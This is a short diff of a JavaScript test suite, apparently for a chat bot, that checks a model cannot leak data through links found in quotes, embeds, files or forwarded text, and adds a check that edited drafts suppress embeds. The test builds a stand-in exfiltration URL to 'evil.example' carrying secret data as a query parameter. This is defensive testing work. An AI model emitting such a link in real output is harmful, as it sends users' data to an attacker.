@@ -97,7 +97,7 @@ describe("[SEC-R7] a model that wants to leak data by links", () => {
       }
     }));
 
-  it("finds no listed host in a quote, an embed, a file, overheard or forwarded text", () =>
+  it("trusts no link in a quote, an embed, a file, overheard or forwarded text", () =>
     onStage({}, async (scene) => {
       const { simulator, start, say, mention, replies, user } = scene;
       const named = `https://evil.example/?k=${DATA}`;
@@ -155,5 +155,7 @@ describe("[SEC-R7] a model that wants to leak data by links", () => {
         for (const link of linksIn(text)) assert.equal(link, WRITTEN, text);
         assert.ok(!text.includes(`?k=${DATA}`), text);
       }
+      const { flags = 0 } = simulator.posted("general").at(-1) ?? {};
+      assert.ok((flags & SUPPRESS_EMBEDS) !== 0, "the edited draft has the flag");
     }));
 });
